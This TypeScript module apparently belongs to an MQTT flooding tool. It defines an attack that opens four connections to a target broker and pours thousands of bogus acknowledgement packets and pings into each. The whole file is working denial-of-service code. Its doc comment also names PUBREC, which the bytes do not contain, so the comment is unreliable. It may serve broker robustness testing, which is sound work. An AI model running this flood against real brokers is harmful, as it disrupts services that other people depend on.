import { type Attack, copies, inLanes, openMqtt, pour } from '../flood.ts'

const CONNECTIONS = 4
/** PUBACK, PUBREC and PUBCOMP of packets that were never sent, and PINGREQ. */
const PACKETS = Buffer.from([0x40, 2, 0x12, 0x34, 0x70, 2, 0x12, 0x34, 0xc0, 0])

export const acknowledgements: Attack = {
  about: 'acknowledges MQTT packets that were never sent, and pings',
  start(target) {
    const bytes = copies(PACKETS, 2000)
    inLanes(CONNECTIONS, async (lane) =>
      pour(await openMqtt(target, { clientId: `acks-${lane}`, protocolVersion: 4 }), () => bytes),
    )
  },
}
